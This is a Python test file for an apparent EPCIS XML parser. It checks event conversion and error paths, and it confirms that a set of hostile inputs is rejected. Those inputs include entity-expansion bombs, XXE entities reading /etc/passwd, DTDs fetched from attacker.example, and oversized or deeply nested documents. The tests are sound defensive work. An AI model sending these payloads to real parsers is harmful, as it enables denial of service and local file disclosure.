"""XML documents: what they say, and what is refused before it can hurt."""

import pytest

from guomen.core.epcis import (
    EpcisError,
    ObjectEvent,
    document_to_xml,
    event_to_dict,
    parse_xml_document,
    xml_to_document,
)

EVENT = """<ObjectEvent>
  <eventTime>2026-03-01T12:00:00.000+08:00</eventTime>
  <eventTimeZoneOffset>+08:00</eventTimeZoneOffset>
  <epcList><epc>urn:epc:id:sgtin:4012345.011111.1</epc></epcList>
  <action>ADD</action>
  <bizStep>urn:epcglobal:cbv:bizstep:commissioning</bizStep>
  <readPoint><id>urn:epc:id:sgln:4012345.00005.0</id><ex:gate>7</ex:gate></readPoint>
  <extension>
    <quantityList><quantityElement><epcClass>urn:epc:class:lgtin:4012345.011111.L7</epcClass>
      <quantity>12.50</quantity><uom>KGM</uom></quantityElement></quantityList>
    <ilmd><ex:grade>A</ex:grade></ilmd>
  </extension>
  <ex:note>one</ex:note><ex:note>two</ex:note>
</ObjectEvent>"""


def document(events: str, head: str = "") -> bytes:
    return f"""<?xml version="1.0"?>{head}<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"
      xmlns:ex="https://ns.example.com/" schemaVersion="2.0" creationDate="2026-03-01T12:00:00Z">
      <EPCISBody><EventList>{events}</EventList></EPCISBody></epcis:EPCISDocument>""".encode()


def test_it_reads_an_xml_event_as_the_json_event_that_says_the_same() -> None:
    (event,) = parse_xml_document(document(EVENT))
    assert isinstance(event, ObjectEvent)
    assert event_to_dict(event) == {
        "type": "ObjectEvent",
        "eventTime": "2026-03-01T12:00:00.000+08:00",
        "eventTimeZoneOffset": "+08:00",
        "epcList": ["urn:epc:id:sgtin:4012345.011111.1"],
        "action": "ADD",
        "bizStep": "commissioning",
        "readPoint": {"id": "urn:epc:id:sgln:4012345.00005.0", "ex:gate": "7"},
        "quantityList": [{"epcClass": "urn:epc:class:lgtin:4012345.011111.L7", "quantity": 12.5, "uom": "KGM"}],
        "ilmd": {"ex:grade": "A"},
        "ex:note": ["one", "two"],
    }
    assert {"ex": "https://ns.example.com/"} in event.context


def test_it_names_the_place_of_what_is_wrong_in_xml_too() -> None:
    with pytest.raises(EpcisError) as caught:
        parse_xml_document(document(EVENT.replace("<action>ADD", "<action>MOVE")))
    assert [problem.path for problem in caught.value.problems] == ["/epcisBody/eventList/0/action"]


BOMB = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">'
FILE = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "data",
    [
        document(EVENT, BOMB),
        document(EVENT.replace(">one<", ">&l9;<"), f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>'),
        document(EVENT, '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>'),
        document(EVENT, OUTSIDE),
        document(EVENT.replace(">one<", ">&f;<"), FILE),
        document("<ex:a>" * 10_000 + "</ex:a>" * 10_000),
        document('<ex:a xmlns:ex="https://ns.example.com/">' + "<ex:b/>" * 260_000 + "</ex:a>"),
        document("".join(f'<ex:a xmlns:n{n}="urn:n:{n}"/>' for n in range(100_000))),
        b" " * (100 * 1024 * 1024),
        b"<a" + b" " * (100 * 1024 * 1024) + b"/>",
        document(EVENT, "<!DOCTYPE x [" + '<!ENTITY a "ha">' * 100_000 + "]>"),
        document(EVENT.replace(">one<", ">&undeclared;<")),
        b'<?xml version="1.0" encoding="no-such"?><a/>',
        b"<a><b></a>",
        b"",
        b"<html/>",
        b"\xff\xfe\x00",
    ],
)
def test_it_refuses_xml_made_to_hurt_and_what_is_no_document(data: bytes) -> None:
    with pytest.raises(EpcisError):
        xml_to_document(data)


def test_too_many_elements_are_counted_before_anything_is_read() -> None:
    for most, element in ((50_000, b"<b/>"), (50_000, b"<b></b>"), (250_000, b"<b>1234567890123456789012</b>")):
        with pytest.raises(EpcisError, match=f"must not have more than {most} elements"):
            xml_to_document(b"no xml" + element * (most + 1))
        with pytest.raises(EpcisError, match="must be XML"):
            xml_to_document(b"no xml" + (element + b"<!-- x --><?x?>") * most)


def test_small_elements_are_allowed_in_number_as_far_as_the_document_is_long() -> None:
    small = b"<b/>" * 100_000
    with pytest.raises(EpcisError, match="must not have more than 75"):
        xml_to_document(b"no xml" + small + b" " * 1_400_000)
    with pytest.raises(EpcisError, match="must be XML"):
        xml_to_document(b"no xml" + small + b" " * 2_100_000)


def test_another_root_ends_the_reading_at_its_first_tag() -> None:
    for root in (b"<html>", b"<EPCISDocuments>", b'<x:EPCIS xmlns:x="urn:epcglobal:epcis:xsd:2">'):
        with pytest.raises(EpcisError, match="must be an EPCISDocument, EPCISQueryDocument or EPCISMasterDataDocument"):
            xml_to_document(root + b"<this is not xml")


def test_texts_in_pieces_spaces_and_marks_come_as_they_are_written() -> None:
    kept = '<ex:a xml:space="preserve"> x &amp; <ex:b> y <![CDATA[ <z> ]]></ex:b> z </ex:a>'
    (event,) = xml_to_document(document(EVENT.replace("<ex:note>one</ex:note>", kept)))["epcisBody"]["eventList"]
    assert event["ex:a"] == {"#text": " x &  z ", "ex:b": "y  <z>"}


@pytest.mark.parametrize("letters", [1, 8 * 1024 * 1024])
def test_a_long_text_is_read_in_time_that_grows_with_its_length_only(letters: int) -> None:
    (event,) = xml_to_document(document(EVENT.replace(">one<", f">{'a&#10;' * (letters // 6)}b<")))["epcisBody"][
        "eventList"
    ]
    assert len(event["ex:note"][0]) == letters // 6 * 2 + 1


def test_extensions_and_own_vocabularies_survive_the_way_through_xml() -> None:
    own = """<ObjectEvent><eventTime>2026-03-01T12:00:00Z</eventTime><eventTimeZoneOffset>+00:00</eventTimeZoneOffset>
      <epcList><epc>urn:epc:id:sgtin:4012345.011111.1</epc></epcList><action>OBSERVE</action>
      <bizStep>https://own.example/step</bizStep><disposition>ex:odd</disposition>
      <bizTransactionList><bizTransaction type="ex:deal" ex:signed="yes">urn:x:1</bizTransaction></bizTransactionList>
      <ex:a ex:b="1" c="2">three<ex:d xml:space="preserve"> four </ex:d></ex:a><ex:a/></ObjectEvent>"""
    read = xml_to_document(document(own))
    (event,) = read["epcisBody"]["eventList"]
    assert event["bizStep"] == "https://own.example/step"
    assert event["disposition"] == "ex:odd"
    assert event["bizTransactionList"] == [{"type": "ex:deal", "bizTransaction": "urn:x:1", "ex:signed": "yes"}]
    assert event["ex:a"] == [{"#text": "three", "ex:b": "1", "c": "2", "ex:d": " four "}, ""]
    again = xml_to_document(document_to_xml(read))
    assert (again["epcisBody"], again["@context"]) == (read["epcisBody"], read["@context"])
